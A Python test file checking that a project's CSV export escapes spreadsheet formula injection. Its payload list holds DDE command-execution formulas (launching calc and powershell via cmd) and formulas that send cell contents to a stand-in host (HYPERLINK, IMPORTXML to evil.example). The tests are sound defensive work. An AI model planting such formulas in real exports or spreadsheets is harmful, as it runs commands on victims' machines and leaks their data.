"""CSV injection: nothing in a file that leaves is computed by a spreadsheet, and coming back it is what it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from objectry.runtime.values.cells import guarded, unguarded
from tests.moulds import Moulds
from tests.security.company import copied_company

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "-", "+", "=", "@",
    "=cmd|'/C powershell'!A1", '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=WEBSERVICE("http://x")',
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left(text: str) -> None:
    """Each known beginning of a formula, with apostrophes of its own too, is marked as text, and comes back."""
    assert not guarded(text).startswith(STARTS)
    assert unguarded(guarded(text)) == text


@given(st.text(max_size=12) | st.text(alphabet="=+-@'\t\r\n＝1a. ", max_size=6))
def test_every_text_comes_back_and_only_numbers_may_begin_so(text: str) -> None:
    """A cell begins as no formula unless it is a plain number, and reading it gives the text back."""
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not cell.startswith(STARTS) or float(cell) < 0


def test_an_export_computes_nothing_anywhere(moulds: Moulds, tmp_path: Path) -> None:
    """Names, paths to others' names and lists of choices: no cell of the file begins as a formula; heads neither."""
    company = copied_company(moulds, "sqlite", tmp_path)
    made = [company.seed("account", name=text.strip() or "x", owner=company.office.people["kim"]) for text in FORMULAS]
    company.seed("contact", name="=1+1", account=made[0], owner=company.office.people["kim"])
    root = company.program("root")
    for object, fields in (("account", "name,number"), ("contact", "name,account.name,owner.name")):
        answer = root.send("GET", f"/{object}/export", query={"fields": fields})
        assert answer.headers["Content-Disposition"].startswith("attachment;")
        assert answer.mimetype == "text/csv"
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert len(rows) > 1
        assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    company.office.platform.close()
